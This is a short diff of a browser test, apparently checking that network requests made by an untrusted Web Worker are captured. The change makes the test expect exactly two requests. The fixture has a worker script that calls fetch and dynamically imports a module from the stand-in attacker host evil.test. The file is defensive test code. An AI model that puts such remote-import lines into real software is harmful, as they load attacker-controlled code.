@@ -143,7 +143,7 @@ describe.runIf(browser)("a hostile explorer", () => {
       const script = 'fetch("http://evil.test/f"); import("http://evil.test/m.js").catch(() => 0);';
       new Worker(URL.createObjectURL(new Blob([script])));
     });
-    await expect.poll(() => requests.length, { timeout: 5000 }).toBeGreaterThanOrEqual(1);
+    await expect.poll(() => requests.length, { timeout: 5000 }).toBe(2);
     expect(requests.every((url) => url.includes("evil.test"))).toBe(true);
     await close();
   });
